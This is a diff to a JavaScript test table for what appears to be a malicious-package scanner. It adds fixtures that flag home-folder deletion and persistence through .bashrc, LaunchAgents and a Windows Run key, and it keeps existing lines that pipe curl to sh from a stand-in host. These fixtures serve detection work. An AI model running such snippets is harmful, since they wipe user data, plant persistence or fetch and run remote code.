@@ -85,6 +85,13 @@ describe('each rule at its edge (edits of real shapes)', () => {
     ['curl run through child_process', "require('child_process').execSync('curl -fsSL https://x.example/i.sh | sh')", ['download-exec']],
     ['a detached process that outlives the install', "require('child_process').spawn(process.execPath, ['svc.js'], { detached: true, stdio: 'ignore' }).unref()", ['detached-process']],
     ['a long base64 blob', `const blob = '${'QUJD'.repeat(600)}';`, ['obfuscated']],
+    ['the home folder removed', "const fs = require('fs'), os = require('os'); fs.rmSync(os.homedir(), { recursive: true, force: true })", ['destructive']],
+    ['rm -rf ~ through a shell', "require('child_process').execSync('rm -rf ~/ 2>/dev/null')", ['destructive']],
+    ['a build folder removed is housekeeping', "fs.rmSync(path.join(__dirname, 'build'), { recursive: true }); execSync('rm -rf ./tmp')", []],
+    ['a line appended to the shell startup file', "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nnode ~/.cache/x.js &\\n')", ['persistence']],
+    ['a LaunchAgent written', "fs.writeFileSync(`${os.homedir()}/Library/LaunchAgents/com.x.plist`, plist)", ['persistence']],
+    ['a Run key added', "require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d evil.exe')", ['persistence']],
+    ['reading the shell startup file is not writing it', "const rc = fs.readFileSync(path.join(os.homedir(), '.zshrc'), 'utf8')", []],
     ['a RegExp exec and a message that names curl start no process', "const m = /v(\\d+)/.exec(s); if (!m) throw new Error('install curl or wget first'); console.log(os.hostname())", []],
     ['the same words in comments only', "// sends os.hostname() to https://x.oastify.com\n/* eval(atob(x)) ~/.ssh/id_rsa readFileSync */\nconsole.log('ok')", []],
   ])('%s', (_name, code, expected) => {
